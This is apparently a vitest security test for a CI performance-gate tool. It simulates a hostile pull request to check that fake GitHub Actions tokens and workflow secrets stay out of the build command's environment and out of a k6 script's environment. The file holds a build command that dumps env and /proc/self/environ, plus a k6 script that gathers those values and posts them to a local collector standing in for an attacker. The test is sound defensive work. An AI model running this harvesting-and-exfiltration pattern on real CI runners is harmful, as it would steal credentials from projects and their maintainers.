// A hostile pull request: its build command and its k6 script search their environment for the
// action's credentials and try to send them out. Real `sh`, real k6, a real loopback HTTP server
// standing in for the attacker's collector.
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startCollector, type Collector } from '../support/collector.js';
import { buildApp } from '../../src/build/build.js';
import { ResourceScope } from '../../src/env/scope.js';
import { checkK6Script, runK6Window } from '../../src/load/k6.js';

const FAKE_CREDENTIALS: Record<string, string> = {
  'INPUT_GITHUB-TOKEN': 'ghs_fakeInputToken0000000000000000000',
  INPUT_GITHUB_TOKEN: 'ghs_fakeInputToken1111111111111111111',
  GITHUB_TOKEN: 'ghs_fakeGithubToken222222222222222222',
  ACTIONS_RUNTIME_TOKEN: 'fake-actions-runtime-token-3333',
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'fake-id-token-request-token-4444',
  ACTIONS_ID_TOKEN_REQUEST_URL: 'https://fake-id-token-url.example/5555',
  DATABASE_PASSWORD: 'fake-workflow-secret-6666',
};

/** A hostile script: it collects everything it can see and sends it to the collector. */
const HOSTILE_SCRIPT = `
import http from 'k6/http';
let environ = '';
try { environ = open('/proc/self/environ'); } catch (e) { environ = 'unreadable: ' + e; }
const seen = JSON.stringify({ env: __ENV, environ });
// Even a failing check must not reveal anything: fail loudly when a credential is visible.
if (/fake|ghs_/.test(seen)) throw new Error('credential visible to the script: ' + seen);
export default function () {
  http.post(__ENV.BASE_URL + '/collect', seen);
}
`;

describe('a hostile pull request', () => {
  let dir: string;
  let collector: Collector;
  let baseUrl: string;
  const saved: Record<string, string | undefined> = {};

  beforeAll(async () => {
    for (const [name, value] of Object.entries(FAKE_CREDENTIALS)) {
      saved[name] = process.env[name];
      process.env[name] = value;
    }
    dir = await mkdtemp(join(tmpdir(), 'perf-gate-hostile-'));
    collector = await startCollector();
    baseUrl = collector.url;
  });

  afterAll(async () => {
    for (const [name, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
    }
    await collector.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('its build command finds no credential in its environment', async () => {
    const scope = new ResourceScope();
    const result = await buildApp({
      directory: dir,
      command:
        'env > seen-env.txt; cat /proc/self/environ | tr "\\0" "\\n" >> seen-env.txt; ' +
        'mkdir -p target && echo jar > target/app.jar',
      jar: 'target/*.jar',
      label: 'PR',
      scope,
    });
    await scope.release();
    expect(result.jar).toBe(join(dir, 'target', 'app.jar'));
    const seen = await readFile(join(dir, 'seen-env.txt'), 'utf8');
    // The build still gets what a JVM build needs.
    expect(seen).toMatch(/^PATH=/m);
    expect(seen).toMatch(/^HOME=/m);
    for (const [name, value] of Object.entries(FAKE_CREDENTIALS)) {
      expect(seen, name).not.toContain(value);
      expect(seen, name).not.toMatch(new RegExp(`^${name}=`, 'm'));
    }
  });

  it('its k6 script sees only what perf-gate passes, when checked and when run', async () => {
    const script = join(dir, 'hostile.js');
    await writeFile(script, HOSTILE_SCRIPT);
    const options = {
      k6: 'k6',
      script,
      baseUrl,
      targetRate: 5,
      durationMs: 1_000,
      preAllocatedVus: 2,
      maxVus: 2,
      executor: 'gate' as const,
      endpoints: [],
      env: { SCENARIO_SETTING: 'visible-on-purpose' },
    };
    await checkK6Script(options);
    const scope = new ResourceScope();
    const run = await runK6Window({ ...options, scope, label: 'hostile window' });
    await scope.release();
    expect(run.exitCode).toBe(0);
    expect(collector.received.length).toBeGreaterThan(0);
    const seen = JSON.parse(collector.received[0]!) as {
      env: Record<string, string>;
      environ: string;
    };
    expect(seen.env).toMatchObject({ SCENARIO_SETTING: 'visible-on-purpose', BASE_URL: baseUrl });
    expect(Object.keys(seen.env).sort()).toEqual(
      [
        'BASE_URL',
        'DURATION',
        'MAX_VUS',
        'PERF_GATE_APP_URL',
        'PERF_GATE_SUMMARY',
        'PRE_ALLOCATED_VUS',
        'RATE',
        'SCENARIO_SETTING',
      ].sort(),
    );
    for (const body of collector.received)
      for (const value of Object.values(FAKE_CREDENTIALS)) expect(body).not.toContain(value);
  }, 60_000);
});
